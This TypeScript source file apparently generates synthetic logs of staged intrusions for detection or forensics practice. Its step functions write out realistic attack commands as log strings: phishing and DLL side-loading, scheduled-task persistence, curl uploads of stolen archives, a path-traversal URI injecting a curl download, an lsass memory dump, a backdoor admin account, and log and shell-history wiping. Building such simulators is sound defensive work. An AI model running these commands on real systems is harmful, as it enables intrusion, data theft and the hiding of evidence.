import { HOUR, MINUTE, SECOND } from "../engine/clock.js";
import { rngFor } from "../engine/rng.js";
import type { DayBook } from "./day-book.js";
import { type Host, hex, hostOf, SYSTEM } from "./estate.js";
import { callsOn, type Intrusion, type Step } from "./intrusions.js";
import { mailLine } from "./mailbox.js";
import { Network } from "./network.js";
import { webRequest } from "./ordinary.js";
import { driveOf, plugIn, stickOf } from "./sticks.js";
import { type Process, type Program, type Session, Windows } from "./windows.js";

/** One step of an intrusion at work, on its day. */
class Stage {
  readonly windows: Windows;
  readonly network: Network;
  readonly host: Host;
  readonly at: number;

  constructor(
    readonly book: DayBook,
    readonly intrusion: Intrusion,
    readonly step: Step,
  ) {
    this.windows = new Windows(book);
    this.network = new Network(book);
    this.host = step.host;
    this.at = step.ts;
  }

  get tools(): Intrusion["tools"] {
    return this.intrusion.tools;
  }

  get session(): Session {
    return this.windows.session(this.step.account ?? SYSTEM, this.host.role === "workstation" ? 1 : 0);
  }

  get implant(): Program {
    const { program, signer, folder } = this.tools;
    return { path: `${folder}\\${program}`, original: program, company: signer, description: signer };
  }

  /** The backdoor as it runs already. */
  running(session = this.session): Process {
    const started = this.windows.standing(this.host, "svchost", session);
    return { ...started, program: this.implant, command: this.implant.path };
  }

  /** Program and library written, started, and the library taken from beside the program. */
  sideLoad(at: number, writer: Process, parent: Process, session: Session): Process {
    const { folder, library, signer } = this.tools;
    this.windows.file(this.host, at, writer, this.implant.path);
    this.windows.file(this.host, at + 300_000, writer, `${folder}\\${library}`);
    const started = this.windows.start(
      this.host,
      at + 4 * SECOND,
      this.implant,
      `"${this.implant.path}"`,
      parent,
      session,
    );
    this.windows.load(this.host, at + 4 * SECOND + 30_000, started, this.implant.path, signer);
    this.windows.load(this.host, at + 4 * SECOND + 80_000, started, `${folder}\\${library}`, "");
    this.call(at + 30 * SECOND, started);
    return started;
  }

  call(at: number, process: Process, host = this.host): void {
    const { server, address } = this.tools;
    this.network.ask(at - 40_000, host, server, address);
    this.windows.query(host, at - 40_000, process, server, address);
    const { sourcePort } = this.network.flow(at, {
      from: host.address,
      to: address,
      port: 443,
      out: 900,
      in: 1400,
      seconds: 2,
    });
    this.windows.connection(host, at, process, address, 443, sourcePort);
  }

  /** Commands one after the other, below a shell of the parent. */
  commands(at: number, parent: Process, commands: readonly string[], session = parent.session): void {
    const shell = this.windows.run(this.host, at, "cmd", "C:\\Windows\\System32\\cmd.exe", parent, session);
    for (const [n, command] of commands.entries()) {
      const key = command.split(" ")[0] as string;
      this.windows.run(this.host, at + (8 + 19 * n) * SECOND, key, command, shell, session);
    }
  }

  /** Explorer is told to show neither hidden nor system files, nor endings of names. */
  hideFiles(host: Host, at: number, process: Process, { sid }: Session["account"]): void {
    const advanced = `HKU\\${sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced`;
    for (const [n, [value, set]] of [
      ["Hidden", 2],
      ["ShowSuperHidden", 0],
      ["HideFileExt", 1],
    ].entries())
      this.windows.registry(
        host,
        at + n * 30_000,
        process,
        `${advanced}\\${value}`,
        `DWORD (0x0000000${set})`,
      );
  }

  get explorer(): Process {
    return this.windows.standing(this.host, "explorer", this.session);
  }

  /** The hijacked account comes from a desk where its owner never sits. */
  hijack(from: Host): Session {
    const { administrator } = this.intrusion;
    this.windows.explicitLogon(
      from,
      this.at - 2 * SECOND,
      this.windows.session(from.owner, 1),
      administrator,
      this.host,
      "C:\\Windows\\System32\\svchost.exe",
    );
    this.windows.tickets(
      hostOf(this.book.estate, "domain_controller"),
      this.at - SECOND,
      administrator,
      from,
      [this.host],
    );
    this.network.flow(this.at, {
      from: from.address,
      to: this.host.address,
      port: 3389,
      out: 800000,
      in: 9000000,
      seconds: 3000,
      service: "rdp",
    });
    return this.windows.logon(this.host, this.at, administrator, 10, from, HOUR);
  }

  audit(at: number, line: string): void {
    const stamp = `${(at / SECOND).toFixed(3)}:${40000 + (Math.floor(at / SECOND) % 90000)}`;
    this.book.line(`audit/${this.host.name}`, at, line.replaceAll("{stamp}", stamp));
  }

  executed(at: number, exe: string, args: readonly string[]): void {
    const node = `node=${this.host.name}`;
    this.audit(
      at,
      `${node} type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=1411 pid=${2000 + (Math.floor(at / SECOND) % 20000)} auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="${exe.split("/").at(-1)}" exe="${exe}" key="exec"`,
    );
    this.audit(
      at + 1,
      `${node} type=EXECVE msg=audit({stamp}): argc=${args.length} ${args.map((arg, n) => `a${n}="${arg}"`).join(" ")}`,
    );
  }
}

const documents = (stage: Stage): string => `C:\\Users\\${stage.step.account?.name ?? "Public"}\\Documents`;

const STEPS: Record<string, (stage: Stage) => void> = {
  phishing(stage) {
    const { book, tools, network, at, host } = stage;
    const server = hostOf(book.estate, "mail_server");
    const message = {
      sender: `secretariat@${tools.server.split(".").slice(1).join(".")}`,
      replyTo: `office.${tools.lure.toLowerCase()}@mail.example.net`,
      recipient: `${host.owner.name}@${book.estate.organisation.domain}`,
      subject: tools.lure.replaceAll("_", " "),
      id: `<${hex(tools.lure, 20)}@${tools.server}>`,
      helo: tools.server,
      size: 1_900_000,
    };
    network.mail(at, tools.storeAddress, server.address, message);
    mailLine(book, at, {
      ...message,
      from: tools.storeAddress,
      passes: false,
      text: `Dear colleague,\nthe ${message.subject} is attached. For confidentiality the archive is protected. Password: ${tools.password}`,
      attachment: { name: `${tools.lure}.zip` },
    });
  },
  open_attachment(stage) {
    const { windows, host, at, tools } = stage;
    const downloads = `C:\\Users\\${host.owner.name}\\Downloads`;
    const outlook = windows.run(
      host,
      at - MINUTE,
      "outlook",
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
      stage.explorer,
    );
    windows.file(host, at, outlook, `${downloads}\\${tools.lure}.zip`);
    const packer = windows.run(
      host,
      at + 9 * SECOND,
      "sevenzip",
      `"C:\\Program Files\\7-Zip\\7zFM.exe" "${downloads}\\${tools.lure}.zip"`,
      stage.explorer,
    );
    windows.file(host, at + 31 * SECOND, packer, `${downloads}\\${tools.lure}\\${tools.lure}.pdf.exe`);
    windows.file(host, at + 31 * SECOND + 90_000, packer, `${downloads}\\${tools.lure}\\${tools.library}`);
    const path = `${downloads}\\${tools.lure}\\${tools.lure}.pdf.exe`;
    windows.start(host, at + 50 * SECOND, { ...stage.implant, path }, `"${path}"`, stage.explorer);
  },
  side_load(stage) {
    const lure = `C:\\Users\\${stage.host.owner.name}\\Downloads\\${stage.tools.lure}\\${stage.tools.lure}.pdf.exe`;
    const dropper = { ...stage.running(), program: { ...stage.implant, path: lure } };
    stage.sideLoad(stage.at, dropper, dropper, dropper.session);
  },
  task(stage) {
    const { windows, host, at, tools } = stage;
    const minutes = tools.beaconMinutes;
    const command = `schtasks /F /Create /TN ${tools.task} /sc minute /MO ${minutes} /TR "${stage.implant.path}"`;
    const parent = stage.running();
    windows.run(host, at, "schtasks", command, parent);
    windows.task(host, at + SECOND, parent.session, tools.task, stage.implant.path, "", minutes);
  },
  run_key(stage) {
    const { host, at, tools, step } = stage;
    const key = `HKU\\${step.account?.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${tools.task}`;
    stage.windows.registry(host, at, stage.running(), key, `"${stage.implant.path}"`);
  },
  beacon(stage) {
    stage.call(stage.at, stage.running());
  },
  discovery(stage) {
    stage.commands(stage.at, stage.running(), stage.tools.discovery);
  },
  removable_media(stage) {
    const { windows, host, at, tools, step } = stage;
    const { first } = stage.intrusion;
    const rng = rngFor(stage.book.estate.seed, "stick", stage.intrusion.id);
    const there = stickOf(windows, rng, first.owner);
    const here = { ...there, drive: driveOf(rng) };
    const hidden = (drive: string) => `${drive}\\${tools.usb.folder}\\${tools.usb.folder}`;
    // The stick is filled on the first host, where the same worm hides what it does, and is opened by somebody else later.
    const source = stage.running(windows.session(first.owner, 1));
    const filled = at - 40 * MINUTE;
    plugIn(windows, first, filled - rng.between(5, 60) * SECOND, there);
    for (const [n, path] of [
      `${there.drive}\\${tools.usb.name}`,
      `${hidden(there.drive)}\\${tools.program}`,
      `${hidden(there.drive)}\\${tools.library}`,
      `${hidden(there.drive)}\\$.ini`,
    ].entries())
      windows.file(first, filled + n * 100_000, source, path);
    stage.hideFiles(first, filled + SECOND, source, first.owner);
    plugIn(windows, host, at - rng.between(20, 400) * SECOND, here);
    const usb = { ...stage.implant, path: `${here.drive}\\${tools.usb.name}` };
    const opened = windows.start(host, at, usb, `"${usb.path}"`, stage.explorer);
    windows.load(host, at + 60_000, opened, usb.path, tools.signer);
    windows.load(host, at + 120_000, opened, `${hidden(here.drive)}\\${tools.library}`, "");
    const made = stage.sideLoad(at + 20 * SECOND, opened, opened, opened.session);
    windows.file(host, at + 21 * SECOND, opened, `${tools.folder}\\$.ini`);
    stage.hideFiles(host, at + 40 * SECOND, made, host.owner);
    windows.registry(
      host,
      at + 44 * SECOND,
      made,
      `HKU\\${step.account?.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${tools.program.replace(".exe", "")}`,
      `"${stage.implant.path}"`,
    );
  },
  archive(stage) {
    const { windows, host, at, tools } = stage;
    const target = `${tools.folder}\\${hex(tools.lure, 6)}.${tools.archiver}`;
    const rar = tools.archiver === "rar";
    const program = windows.program("rar");
    const packer = rar
      ? { ...program, path: `${tools.folder}\\rar.exe` }
      : {
          path: `${tools.folder}\\7z.exe`,
          original: "7z.exe",
          company: "Igor Pavlov",
          description: "7-Zip Console",
        };
    const types = "*.doc *.docx *.xls *.xlsx *.pdf *.ppt";
    const command = rar
      ? `${packer.path} a -r -hp${tools.password} -ta20250101000000 ${target} ${documents(stage)}\\${types.replaceAll(" ", ` ${documents(stage)}\\`)}`
      : `${packer.path} a -r -p${tools.password} -mhe=on ${target} ${documents(stage)}\\${types.replaceAll(" ", ` ${documents(stage)}\\`)}`;
    const writer = stage.running();
    windows.file(host, at - 50 * SECOND, writer, packer.path);
    const packing = windows.start(host, at, packer, command, writer);
    windows.file(host, at + 20 * SECOND, packing, target);
  },
  upload(stage) {
    const { windows, network, host, at, tools } = stage;
    const source = `${tools.folder}\\${hex(tools.lure, 6)}.${tools.archiver}`;
    const ftp = tools.upload === "ftp";
    const command = ftp
      ? `curl -T ${source} ftp://${tools.storeAddress}/in/ --user svc:${tools.password}x`
      : `curl --upload-file ${source} https://${tools.store}/u/${hex(tools.password, 8)}`;
    const started = windows.run(host, at, "curl", command, stage.running());
    const size = 48e6 + (at % 1e7);
    const to = tools.storeAddress;
    if (ftp) {
      const file = source.slice(source.lastIndexOf("\\") + 1);
      const ports = network.ftp(at + SECOND, host, to, { user: "svc", file, size, seconds: 140 });
      windows.connection(host, at + SECOND, started, to, 21, ports.command);
      windows.connection(host, at + 2 * SECOND, started, to, ports.port, ports.data);
      return;
    }
    network.ask(at, host, tools.store, to);
    windows.query(host, at, started, tools.store, to);
    const sourcePort = network.tls(at + SECOND, host, tools.store, size, 12000, to, "curl");
    windows.connection(host, at + SECOND, started, to, 443, sourcePort);
  },
  gateway_exploit(stage) {
    const { book, host, at, tools, network } = stage;
    for (let n = 0; n < 14; n++) {
      const then = at - (20 - n) * MINUTE;
      const uri =
        n < 9
          ? "/dana-na/auth/url_default/welcome.cgi"
          : `/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20http:%2f%2f${tools.address}%2f${tools.linuxTool}`;
      const date = new Date(then / 1000).toUTCString();
      const [, day, month, year, time] = date.split(" ");
      book.line(
        `gateway/${host.name}`,
        then,
        `${host.computer}:443 ${tools.storeAddress} - - [${day}/${month}/${year}:${time} +0000] "GET ${uri} HTTP/1.1" ${n < 9 || n === 13 ? 200 : 500} ${700 + n} "-" "python-requests/2.32.3"`,
      );
      network.flow(then, {
        from: tools.storeAddress,
        to: host.address,
        port: 443,
        out: 900,
        in: 2100,
        seconds: 1,
        service: "ssl",
      });
    }
    // The last command was taken.
    network.http(
      at - 6 * MINUTE,
      host.address,
      tools.address,
      tools.address,
      `/${tools.linuxTool}`,
      "curl/7.81.0",
      640_000,
    );
  },
  linux_backdoor(stage) {
    const { at, tools, network, host, book } = stage;
    network.flow(at - MINUTE, {
      from: hostOf(book.estate, "gateway").address,
      to: host.address,
      port: 22,
      out: 9000,
      in: 12000,
      seconds: 400,
      service: "ssh",
    });
    stage.executed(at, "/usr/bin/curl", [
      "curl",
      "-o",
      `/tmp/.${tools.linuxTool}`,
      `http://${tools.address}/${tools.linuxTool}`,
    ]);
    network.http(
      at,
      host.address,
      tools.address,
      tools.address,
      `/${tools.linuxTool}`,
      "curl/8.5.0",
      640_000,
    );
    stage.executed(at + 5 * SECOND, "/usr/bin/chmod", ["chmod", "755", `/tmp/.${tools.linuxTool}`]);
    stage.executed(at + 9 * SECOND, `/tmp/.${tools.linuxTool}`, [`/tmp/.${tools.linuxTool}`, "-d"]);
  },
  web_shell(stage) {
    const { windows, host, at, tools, book } = stage;
    const pool = windows.standing(host, "w3wp");
    windows.file(host, at, pool, `C:\\inetpub\\wwwroot\\docs\\${tools.shell}`);
    for (let n = 0; n < 24; n++)
      webRequest(
        book,
        at + (1 + 3 * n) * MINUTE,
        host,
        tools.storeAddress,
        "POST",
        `/docs/${tools.shell}`,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/99.0",
        200,
        800 + 90 * n,
      );
    stage.commands(at + 4 * MINUTE, pool, [
      "whoami",
      "ipconfig /all",
      "tasklist /svc",
      "net user /domain",
      "nltest /dclist:",
    ]);
  },
  credentials(stage) {
    const { windows, host, at, tools, book } = stage;
    webRequest(
      book,
      at - SECOND,
      host,
      tools.storeAddress,
      "POST",
      `/docs/${tools.shell}`,
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/99.0",
      200,
      912,
    );
    const pool = windows.standing(host, "w3wp");
    const shell = windows.run(host, at, "cmd", "cmd.exe /c rdrleakdiag", pool);
    const lsass = windows.standing(host, "lsass");
    const started = windows.run(
      host,
      at + SECOND,
      "rdrleakdiag",
      `rdrleakdiag.exe /p ${lsass.pid} /o C:\\Windows\\Temp /fullmemdmp /wait 1`,
      shell,
    );
    windows.access(host, at + 2 * SECOND, started, lsass, "0x1fffff");
    windows.file(host, at + 4 * SECOND, started, `C:\\Windows\\Temp\\minidump_${lsass.pid}.dmp`);
  },
  hijacked_mail(stage) {
    const session = stage.hijack(hostOf(stage.book.estate, "web_server"));
    stage.commands(stage.at + 2 * MINUTE, stage.windows.standing(stage.host, "explorer", session), [
      "whoami /all",
      "net localgroup administrators",
      "tasklist /svc",
    ]);
  },
  service_side_load(stage) {
    const { windows, host, at, tools } = stage;
    const session = stage.session;
    const shell = windows.run(host, at, "cmd", "cmd.exe", windows.standing(host, "explorer", session));
    const [name, display] = tools.service;
    windows.run(
      host,
      at + 9 * SECOND,
      "sc",
      `sc create ${name} binPath= "${stage.implant.path}" start= auto DisplayName= "${display}"`,
      shell,
    );
    windows.service(host, at + 10 * SECOND, session, display, stage.implant.path);
    stage.sideLoad(at + 12 * SECOND, shell, windows.standing(host, "services"), windows.session(SYSTEM));
  },
  mailbox(stage) {
    const { windows, host, at } = stage;
    const session = stage.hijack(hostOf(stage.book.estate, "web_server"));
    windows.run(
      host,
      at + MINUTE,
      "powershell",
      "powershell.exe -NoExit",
      windows.standing(host, "explorer", session),
    );
    const target = `\\\\${hostOf(stage.book.estate, "file_server").name}\\scans$\\m.pst`;
    const mailbox = stage.intrusion.first.owner.name;
    windows.script(
      host,
      at + 2 * MINUTE,
      session,
      `Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ${mailbox} -FilePath ${target}`,
    );
    windows.cmdlet(host, at + 2 * MINUTE + SECOND, session, "New-MailboxExportRequest", {
      Mailbox: mailbox,
      FilePath: target,
    });
    windows.file(host, at + 4 * MINUTE, windows.standing(host, "replication"), target);
  },
  database(stage) {
    const { windows, host, at, tools } = stage;
    const session = stage.hijack(hostOf(stage.book.estate, "mail_server"));
    const shell = windows.run(
      host,
      at + MINUTE,
      "cmd",
      "cmd.exe",
      windows.standing(host, "explorer", session),
    );
    const started = windows.run(
      host,
      at + 3 * MINUTE,
      "sqlcmd",
      `sqlcmd -S localhost -E -d Contracts -Q "SELECT * FROM dbo.Contracts" -o ${tools.folder}\\c.csv -s ;`,
      shell,
    );
    windows.file(host, at + 4 * MINUTE, started, `${tools.folder}\\c.csv`);
  },
  stage(stage) {
    const session = stage.hijack(hostOf(stage.book.estate, "mail_server"));
    stage.commands(stage.at + MINUTE, stage.windows.standing(stage.host, "explorer", session), [
      `net use \\\\${hostOf(stage.book.estate, "database").name}\\c$`,
    ]);
    STEPS.archive?.(stage);
  },
  restore_logs(stage) {
    const { windows, host, at, book } = stage;
    const session = stage.hijack(hostOf(book.estate, "web_server"));
    const shell = windows.run(
      host,
      at + MINUTE,
      "cmd",
      "cmd.exe",
      windows.standing(host, "explorer", session),
    );
    windows.run(host, at + 2 * MINUTE, "sc", "sc stop EventLog", shell);
    book.event(host, at + 2 * MINUTE + SECOND, "Security", 1100, {});
    windows.system(host, at + 2 * MINUTE + SECOND, 6006);
    // An older copy of the log takes its place: numbers go back, and nothing says that it was cleared.
    book.restore(host, at + 4 * MINUTE, "Security", 400);
    windows.system(host, at + 5 * MINUTE, 6005);
    windows.serviceState(host, at + 5 * MINUTE + SECOND, "Windows Event Log", "running");
  },
  clear_history(stage) {
    stage.executed(stage.at, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"]);
    stage.executed(stage.at + 8 * SECOND, "/usr/bin/truncate", ["truncate", "-s", "0", "/var/log/wtmp"]);
  },
  local_administrator(stage) {
    const { windows, host, at, tools } = stage;
    const session = windows.session(SYSTEM);
    stage.commands(
      at,
      stage.running(session),
      [`net user support ${tools.password}Aa! /add`, "net localgroup administrators support /add"],
      session,
    );
    const sid = `S-1-5-21-${Number.parseInt(host.machine, 16)}-1-1-1007`;
    windows.account(host, at + 10 * SECOND, 4720, session, "support", sid);
    windows.account(host, at + 11 * SECOND, 4722, session, "support", sid);
    windows.account(host, at + 29 * SECOND, 4732, session, "support", sid, "Administrators");
  },
  remote_lateral(stage) {
    const { windows, network, host, at, tools, intrusion } = stage;
    const from = intrusion.first;
    const { administrator } = intrusion;
    windows.explicitLogon(
      from,
      at - SECOND,
      windows.session(from.owner, 1),
      administrator,
      host,
      stage.implant.path,
    );
    const session = windows.logon(host, at, administrator, 3, from, 30 * MINUTE);
    network.flow(at, {
      from: from.address,
      to: host.address,
      port: tools.method === "winrm" ? 5985 : 445,
      out: 900000,
      in: 40000,
      seconds: 60,
    });
    const services = windows.standing(host, tools.method === "service" ? "services" : "svchost");
    const command = `cmd.exe /c start ${stage.implant.path}`;
    if (tools.method === "service")
      windows.service(host, at + SECOND, session, hex(tools.password, 8), command, "demand start");
    if (tools.method === "task")
      windows.task(host, at + SECOND, session, tools.task, "cmd.exe", `/c start ${stage.implant.path}`, 1);
    const parent =
      tools.method === "winrm"
        ? windows.run(
            host,
            at + SECOND,
            "wsmprovhost",
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            services,
            session,
          )
        : services;
    const shell = windows.run(host, at + 3 * SECOND, "cmd", command, parent, session);
    stage.sideLoad(at + 5 * SECOND, shell, shell, session);
  },
  remote_tool(stage) {
    const { windows, host, at, tools } = stage;
    const [name, maker] = tools.remote;
    const path = `C:\\Program Files (x86)\\${name}\\${name.replaceAll(" ", "")}.exe`;
    const session = stage.session;
    windows.file(host, at, stage.running(session), path);
    windows.service(host, at + 5 * SECOND, session, `${name} Service`, `"${path}" --service`);
    windows.start(
      host,
      at + 9 * SECOND,
      { path, original: `${name}.exe`, company: maker, description: name },
      `"${path}" --service`,
      windows.standing(host, "services"),
    );
    stage.network.tls(
      at + 12 * SECOND,
      host,
      `relay.${name.split(" ")[0]?.toLowerCase()}.example`,
      40000,
      90000,
    );
  },
  clear_logs(stage) {
    const { windows, host, at } = stage;
    const session = windows.logon(
      host,
      at - MINUTE,
      stage.intrusion.administrator,
      3,
      stage.intrusion.first,
      5 * MINUTE,
    );
    const shell = windows.run(host, at, "cmd", "cmd.exe", stage.running(session), session);
    windows.run(host, at + 3 * SECOND, "wevtutil", "wevtutil cl Security", shell);
    windows.cleared(host, at + 3 * SECOND + 200_000, session, "Security");
    windows.run(host, at + 9 * SECOND, "wevtutil", "wevtutil cl System", shell);
    windows.cleared(host, at + 9 * SECOND + 200_000, session, "System");
  },
};

/** What the intruders do on this day, and the calls of what they left behind. */
export function intrusionDay(book: DayBook, intrusions: readonly Intrusion[]): void {
  const end = book.day + 24 * HOUR;
  for (const intrusion of intrusions) {
    for (const step of intrusion.steps)
      if (step.ts >= book.day && step.ts < end) STEPS[step.step]?.(new Stage(book, intrusion, step));
    for (const { host, ts } of callsOn(intrusion, book.day, book.rng)) {
      const { server, address } = intrusion.tools;
      const network = new Network(book);
      if (book.rng.chance(0.2)) network.ask(ts - 40_000, host, server, address);
      network.flow(ts, {
        from: host.address,
        to: address,
        port: 443,
        out: 380 + book.rng.int(60),
        in: 420 + book.rng.int(80),
        seconds: 0.5 + book.rng.float(),
      });
    }
  }
}
